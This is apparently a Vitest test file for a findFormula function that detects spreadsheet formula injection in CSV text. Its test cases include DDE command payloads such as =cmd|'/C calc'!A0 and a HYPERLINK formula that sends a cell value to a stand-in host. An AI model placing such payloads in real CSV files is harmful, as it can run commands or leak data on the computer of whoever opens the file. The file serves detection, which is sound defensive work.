import { expect, test } from 'vitest';
import { findFormula } from '../../../src/content/find-formula.ts';

test.each([
  ["茶,=cmd|'/C calc'!A0"],
  ['茶,"=1+1"'],
  ['茶;=1+1'],
  ['茶\t=1+1'],
  ['"茶;=1+1"'],
  ['茶, =1+1'],
  ['茶,"\t=1+1"'],
  ['茶,＝1+1'],
  ["茶,+cmd|'/C calc'!A0"],
  ["茶,-2+3+cmd|'/C calc'!A0"],
  ["茶,@SUM(1+9)*cmd|'/C calc'!A0"],
  ['茶,+HYPERLINK("https://tea.example/"&A1)'],
])('%s: a formula', (line) => {
  expect(findFormula(`年,斤\r\n${line}`)).toMatchObject({ line: 2 });
});

test.each([
  ['-1.5'],
  ['+3%'],
  ['-1,234.5'],
  ['+86 (10) 1234-5678'],
  ['-'],
  ['--'],
  ['@tea'],
  ['-5 kg'],
  ["'=1+1"],
  ['a=b'],
  ['=='],
])('%s: none', (cell) => {
  expect(findFormula(`年,斤\n茶,${cell}\n${cell},茶\n`)).toBeUndefined();
});

test('its place is that of the cell', () => {
  expect(findFormula('年,斤\n茶, "=1+1",3\n')).toEqual({ line: 2, column: 5, cell: '=1+1"' });
});
